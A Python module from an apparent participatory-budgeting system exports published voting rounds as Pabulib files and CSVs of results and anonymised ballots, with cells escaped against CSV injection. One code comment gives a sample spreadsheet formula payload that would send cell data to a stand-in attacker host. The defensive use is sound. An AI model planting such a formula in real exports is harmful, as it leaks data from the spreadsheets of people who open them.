"""A published round as a Pabulib file: the anonymised ballot box, so anyone can recount it."""

import csv
import io
import json

from sqlmodel import Session

from governance import repository as governance_repo
from governance.models import BallotKind, Round, VoteStatus
from proposals import repository as proposals_repo
from voting import counting, pabulib
from voting import repository as voting_repo
from voting.errors import ResultsNotPublished

# A spreadsheet reads a cell that starts with one of these as a formula: a proposal titled
# =HYPERLINK("https://evil.example/?"&A1, "Details") would run on a council officer's computer.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(text: str) -> str:
    """Text for a cell of an exported file: a leading apostrophe makes a spreadsheet show a
    would-be formula as the text it is (the OWASP advice for CSV injection). Pabulib files are
    ;-separated CSV and are opened in spreadsheets, so their text cells get the same."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


# How Pabulib names our rules in a file's META `rule`.
PABULIB_RULES = {"greedy": "greedy", "mes": "equalshares/add1", "phragmen": "phragmen"}


def pabulib_for_round(session: Session, round_id: int) -> str:
    voting_round = governance_repo.get_round(session, round_id)
    if voting_round.vote_status != VoteStatus.published:
        raise ResultsNotPublished("The ballots of a round are published with its results, not before.")
    partnership = governance_repo.get_partnership(session, voting_round.partnership_id)
    projects = proposals_repo.on_ballot(session, round_id)
    # Ballots in the order of their random keys: the file says nothing about who voted when.
    box = [b.choices for b in voting_repo.ballots_of(session, round_id)]
    election = counting.election_for(voting_round, projects, box)
    meta = {
        "description": spreadsheet_safe(f"{partnership.name}: {voting_round.title}"),
        "country": "United Kingdom",
        "unit": spreadsheet_safe(partnership.name),
        "instance": spreadsheet_safe(voting_round.title),
        "currency": voting_round.currency,
        "rule": PABULIB_RULES.get(voting_round.counting_rule, voting_round.counting_rule),
        **_score_range(voting_round),
    }
    project_info = {str(p.id): {"name": spreadsheet_safe(p.title)} for p in projects}
    return pabulib.dumps(pabulib.from_election(election, meta=meta, project_info=project_info))


def _score_range(voting_round: Round) -> dict[str, str]:
    """The limits a voter had, in Pabulib's META words, so a recount knows the ballot's shape."""
    if voting_round.ballot_kind == BallotKind.scores:
        return {"min_points": str(voting_round.score_min), "max_points": str(voting_round.score_max)}
    if voting_round.ballot_kind == BallotKind.points:
        return {"max_sum_points": str(voting_round.points_total)}
    if voting_round.ballot_kind == BallotKind.ranking:
        return {"max_length": str(voting_round.rank_depth)}
    return {}


# --- exports of a certified round: CSV and 360Giving ---------------------------------------------

def published_outcome(session: Session, round_id: int, what: str) -> tuple[Round, dict]:
    from voting import certification

    certification.require_certified(session, round_id, what)
    voting_round = governance_repo.get_round(session, round_id)
    return voting_round, json.loads(voting_repo.result_of(session, round_id).outcome)


def csv_text(rows: list[list]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) if isinstance(cell, str) else cell for cell in row])
    return buffer.getvalue()


def results_csv(session: Session, round_id: int) -> str:
    """One row per project on the ballot, in the order the results page lists them, with the
    totals the page shows in its caption as the last row."""
    voting_round, outcome = published_outcome(session, round_id, "A CSV export")
    projects = sorted(outcome["projects"], key=lambda p: (not p["selected"], -p["support"], p["id"]))
    support = "votes" if outcome["ballot_kind"] == BallotKind.approval else "total_score"
    rows: list[list] = [["round_id", "project_id", "title", "cost", support, "funded", "reason", "currency"]]
    for p in projects:
        rows.append([round_id, p["id"], p["title"], p["cost"], p["support"], "yes" if p["selected"] else "no",
                     "" if p["selected"] else (p.get("reason") or ""), voting_round.currency])
    rows.append([round_id, "", "TOTAL", outcome["total_cost"], outcome["ballots"], len(outcome["selected"]),
                 f"{outcome['ballots']} ballots counted; {len(outcome['selected'])} projects funded; "
                 f"{outcome['total_cost']} of {voting_round.budget} allocated", voting_round.currency])
    return csv_text(rows)


def ballots_csv(session: Session, round_id: int) -> str:
    """The anonymised ballots, one row per ballot and project: the ballot number is its place in
    the order of the box's random keys, which says nothing about who voted or when."""
    voting_round, _ = published_outcome(session, round_id, "A CSV export")
    kind = voting_round.ballot_kind
    rows: list[list] = [["ballot", "project_id", "approval" if kind == BallotKind.approval else
                         "rank" if kind == BallotKind.ranking else "points" if kind == BallotKind.points else "score"]]
    for n, ballot in enumerate(voting_repo.ballots_of(session, round_id), start=1):
        choices = json.loads(ballot.choices)
        if "approvals" in choices:
            rows.extend([n, int(p), 1] for p in sorted(choices["approvals"], key=int))
        elif "ranking" in choices:
            rows.extend([n, int(p), place] for place, p in enumerate(choices["ranking"], start=1))
        else:
            given = choices.get("scores") or choices.get("points") or {}
            rows.extend([n, int(p), v] for p, v in sorted(given.items(), key=lambda item: int(item[0])))
    return csv_text(rows)


def ballots_file_name(results_path: str) -> str:
    stem = results_path[:-4] if results_path.lower().endswith(".csv") else results_path
    return f"{stem}-ballots.csv"
